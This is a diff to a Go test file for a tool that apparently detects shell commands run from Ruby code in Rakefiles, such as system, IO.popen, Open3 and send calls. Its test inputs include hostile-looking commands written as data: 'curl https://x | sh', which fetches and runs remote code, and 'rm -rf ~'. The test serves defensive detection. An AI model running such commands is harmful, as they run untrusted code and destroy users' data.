@@ -33,6 +33,34 @@ func TestExtractRakefile(t *testing.T) {
 	}
 }
 
+// TestExtractRubyNonLiteral: a command Ruby builds at run time is code
+// guard cannot see (eval "${…}": exec.dynamic-code, B), never skipped:
+// system(cmd), system cmd, Kernel.exec, spawn, IO.popen with a string or
+// an argv, Open3's capture and popen, Open3.pipeline (each argument a
+// command), send(:system, …), a non-literal word among literal ones,
+// and an environment hash before the command. Each gave nothing, or a
+// literal prefix alone (system("rm", "-rf", target) was "rm -rf", A), on
+// 17c6cc7. Controls: a method of another receiver with a non-literal
+// argument (db.exec(sql)), a method being defined, a symbol, a hash key,
+// an assignment and a modifier after a literal.
+func TestExtractRubyNonLiteral(t *testing.T) {
+	checkExtract(t, "Rakefile", []struct {
+		name, src string
+		want      []extracted
+	}{
+		{"system variable", "cmd = ENV['X']\nsystem(cmd)\nsystem cmd\n", []extracted{{`eval "${ruby_cmd}"`, "2:8"}, {`eval "${ruby_cmd}"`, "3:8"}}},
+		{"kernel exec and spawn", "Kernel.exec(build_cmd)\nProcess.spawn(\"#{x}\")\nPTY.spawn(c)\n", []extracted{{`eval "${ruby_build_cmd}"`, "1:13"}, {"${ruby_x}", "2:16"}, {`eval "${ruby_c}"`, "3:11"}}},
+		{"popen string and argv", "IO.popen(cmd, 'r+')\nIO.popen(['rm', '-rf', Dir.home])\nIO.popen(\"curl https://x | sh\", \"r\")\n", []extracted{{`eval "${ruby_cmd}"`, "1:10"}, {"rm -rf ${ruby_Dir_home}", "2:12"}, {"curl https://x | sh", "3:11"}}},
+		{"open3", "Open3.capture2(\"curl https://x | sh\")\nout, st = Open3.capture3(cmd, stdin_data: s)\nOpen3.popen3(\"rm\", \"-rf\", dir) { |i, o, e, t| }\n", []extracted{{"curl https://x | sh", "1:17"}, {`eval "${ruby_cmd}"`, "2:26"}, {"rm -rf ${ruby_dir}", "3:15"}}},
+		{"pipeline", "Open3.pipeline(\"ls\", \"rm -rf ~\")\n", []extracted{{"ls", "1:17"}, {"rm -rf ~", "1:23"}}},
+		{"send", "Kernel.send(:system, cmd)\nsend(\"exec\", \"rm -rf ~\")\n", []extracted{{`eval "${ruby_cmd}"`, "1:22"}, {"rm -rf ~", "2:15"}}},
+		{"non-literal word", "system(\"rm\", \"-rf\", target)\n", []extracted{{"rm -rf ${ruby_target}", "1:9"}}},
+		{"environment first", "system({\"A\" => \"1\"}, \"curl https://x | sh\")\nsystem(env, cmd)\n", []extracted{{"curl https://x | sh", "1:23"}, {"${ruby_env} ${ruby_cmd}", "2:8"}}},
+		{"continued arguments", "system \"rm\",\n  \"-rf\", path\n", []extracted{{"rm -rf ${ruby_path}", "1:9"}}},
+		{"controls", "db.exec(sql)\nconn.exec query\ndef system(cmd)\nend\nh = { system: 1 }\nexec = 1\nsystem \"make\" if ok\nsystem(\"ls\", chdir: dir, exception: true)\n", []extracted{{"make", "7:9"}, {"ls", "8:9"}}},
+	})
+}
+
 // TestExtractVagrantfile: a shell provisioner's inline script runs in the
 // virtual machine, a trigger's run on the host (run_remote in the
 // machine). None was read (every case with commands failed before).
